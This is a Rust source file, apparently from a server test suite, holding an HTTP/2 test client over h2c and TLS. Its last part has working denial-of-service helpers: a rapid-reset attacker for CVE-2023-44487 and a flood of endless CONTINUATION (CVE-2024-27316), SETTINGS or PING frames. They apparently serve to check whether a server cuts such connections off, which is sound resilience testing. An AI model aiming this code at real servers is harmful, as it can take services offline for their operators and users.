//! An HTTP/2 test client: over cleartext with prior knowledge (h2c), or over
//! TLS with ALPN `h2`. One connection carries many requests at once.

use std::net::SocketAddr;
use std::sync::Arc;

use bytes::Bytes;
use http::{Request, Version};
use http_body_util::Full;
use hyper::client::conn::http2::{self, SendRequest};
use hyper_util::rt::{TokioExecutor, TokioIo};
use rustls::ClientConfig;
use tokio::net::TcpStream;
use tokio::task::JoinHandle;

use crate::client::{Collected, collect, describe};

/// An HTTP/2 connection. Cloning [`H2Conn::sender`] sends on the same
/// connection; dropping the last handle closes it.
pub struct H2Conn {
    sender: SendRequest<Full<Bytes>>,
    conn: JoinHandle<()>,
    /// `http` or `https`, for the requests' URIs.
    scheme: &'static str,
    authority: String,
}

impl H2Conn {
    /// h2c: HTTP/2 over cleartext, with prior knowledge.
    pub async fn cleartext(addr: SocketAddr) -> Result<H2Conn, String> {
        let stream = TcpStream::connect(addr)
            .await
            .map_err(|e| describe(&format!("connect to {addr}"), &e))?;
        H2Conn::over(stream, "http", addr.to_string()).await
    }

    /// HTTP/2 over TLS: `config` must offer ALPN `h2` (see [`with_h2`]).
    pub async fn tls(
        addr: SocketAddr,
        config: &Arc<ClientConfig>,
        server_name: &str,
    ) -> Result<H2Conn, String> {
        let stream = TcpStream::connect(addr)
            .await
            .map_err(|e| describe(&format!("connect to {addr}"), &e))?;
        let tls = crate::tls::handshake(stream, addr, config, server_name).await?;
        if tls.get_ref().1.alpn_protocol() != Some(b"h2") {
            return Err(format!("{addr} did not choose h2 by ALPN"));
        }
        H2Conn::over(tls, "https", server_name.to_string()).await
    }

    async fn over<S>(stream: S, scheme: &'static str, authority: String) -> Result<H2Conn, String>
    where
        S: tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin + Send + 'static,
    {
        let (sender, conn) = http2::handshake(TokioExecutor::new(), TokioIo::new(stream))
            .await
            .map_err(|e| describe("HTTP/2 handshake", &e))?;
        let conn = tokio::spawn(async move {
            let _ = conn.await;
        });
        Ok(H2Conn {
            sender,
            conn,
            scheme,
            authority,
        })
    }

    /// A request for `path` on this connection's authority.
    pub fn request(
        &self,
        method: http::Method,
        path: &str,
        body: impl Into<Bytes>,
    ) -> Request<Full<Bytes>> {
        Request::builder()
            .method(method)
            .uri(format!("{}://{}{path}", self.scheme, self.authority))
            .version(Version::HTTP_2)
            .body(Full::new(body.into()))
            .unwrap()
    }

    /// Send `request` and collect the response (a reset stream is an error).
    pub async fn send(&self, request: Request<Full<Bytes>>) -> Result<Collected, String> {
        send(self.sender.clone(), request).await
    }

    /// Whether the connection is gone (the server sent GOAWAY and closed it).
    pub fn is_closed(&self) -> bool {
        self.sender.is_closed()
    }

    /// A handle to send on this connection from elsewhere.
    pub fn sender(&self) -> SendRequest<Full<Bytes>> {
        self.sender.clone()
    }
}

impl Drop for H2Conn {
    fn drop(&mut self) {
        self.conn.abort();
    }
}

impl std::fmt::Debug for H2Conn {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("H2Conn")
            .field("authority", &self.authority)
            .finish_non_exhaustive()
    }
}

/// Send `request` on `sender` and collect the response.
pub async fn send(
    mut sender: SendRequest<Full<Bytes>>,
    request: Request<Full<Bytes>>,
) -> Result<Collected, String> {
    let what = format!("{} {}", request.method(), request.uri());
    sender
        .ready()
        .await
        .map_err(|e| describe(&format!("{what}: connection not ready"), &e))?;
    let response = sender
        .send_request(request)
        .await
        .map_err(|e| describe(&format!("{what}: response head"), &e))?;
    if response.version() != Version::HTTP_2 {
        return Err(format!("{what}: answered in {:?}", response.version()));
    }
    collect(&what, response).await
}

/// `config` offering ALPN `h2` only.
pub fn with_h2(config: &Arc<ClientConfig>) -> Arc<ClientConfig> {
    let mut config = (**config).clone();
    config.alpn_protocols = vec![b"h2".to_vec()];
    Arc::new(config)
}

/// A rapid-reset attacker (CVE-2023-44487): on one h2c connection, open
/// `streams` requests and reset each at once. Returns whether the server
/// ended the connection (a GOAWAY or a close) within a second of the flood.
pub async fn rapid_reset(addr: SocketAddr, streams: usize) -> bool {
    let Ok(stream) = TcpStream::connect(addr).await else {
        return false;
    };
    let Ok((mut sender, connection)) = ::h2::client::handshake(stream).await else {
        return false;
    };
    let mut driver = tokio::spawn(async move {
        let _ = connection.await;
    });
    let mut opened = 0usize;
    for _ in 0..streams {
        sender = match sender.ready().await {
            Ok(ready) => ready,
            Err(_) => break,
        };
        let request = Request::get(format!("http://{addr}/")).body(()).unwrap();
        match sender.send_request(request, true) {
            Ok((_response, mut stream)) => {
                stream.send_reset(::h2::Reason::CANCEL);
                opened += 1;
            }
            Err(_) => break,
        }
    }
    let _ = opened;
    let ended = tokio::time::timeout(std::time::Duration::from_secs(1), &mut driver)
        .await
        .is_ok();
    driver.abort();
    ended
}

/// What a [`flood`] sends, frame after frame, without reading anything back.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// A HEADERS frame without END_HEADERS, then CONTINUATION frames of
    /// 16 KiB forever (CVE-2024-27316 and kin).
    Continuation,
    /// SETTINGS frames, each of which asks for an acknowledgement.
    Settings,
    /// PING frames, each of which asks for an answer.
    Ping,
}

/// How a [`flood`] ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Flooded {
    /// Frames written before the flood stopped.
    pub frames: usize,
    /// Whether the server closed the connection (a write or read failed, or
    /// it ended) rather than the flood running for its whole time.
    pub closed: bool,
}

/// Flood the h2c server at `addr` with `kind` frames for at most `secs`
/// seconds, reading nothing but the end of the connection.
pub async fn flood(addr: SocketAddr, kind: Flood, secs: u64) -> Flooded {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let Ok(stream) = TcpStream::connect(addr).await else {
        return Flooded {
            frames: 0,
            closed: true,
        };
    };
    let (mut read, mut write) = stream.into_split();
    use crate::h2_origin::frame;
    let mut start = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    start.extend(frame(0x4, 0, 0, &[]));
    let repeated = match kind {
        Flood::Continuation => {
            // :method GET, then a header block that never ends.
            start.extend(frame(0x1, 0, 1, &[0x82]));
            frame(0x9, 0, 1, &vec![0x40; 16 * 1024])
        }
        // SETTINGS_ENABLE_PUSH = 0, again and again.
        Flood::Settings => frame(0x4, 0, 0, &[0, 2, 0, 0, 0, 0]),
        Flood::Ping => frame(0x6, 0, 0, &[7; 8]),
    };
    // The end of the connection, noticed while writing.
    let ended = tokio::spawn(async move {
        let mut sink = vec![0u8; 64 * 1024];
        while matches!(read.read(&mut sink).await, Ok(n) if n > 0) {}
    });
    let mut frames = 0;
    let writing = async {
        if write.write_all(&start).await.is_err() {
            return true;
        }
        loop {
            if ended.is_finished() || write.write_all(&repeated).await.is_err() {
                return true;
            }
            frames += 1;
        }
    };
    let closed = tokio::time::timeout(std::time::Duration::from_secs(secs), writing)
        .await
        .unwrap_or(false);
    Flooded { frames, closed }
}
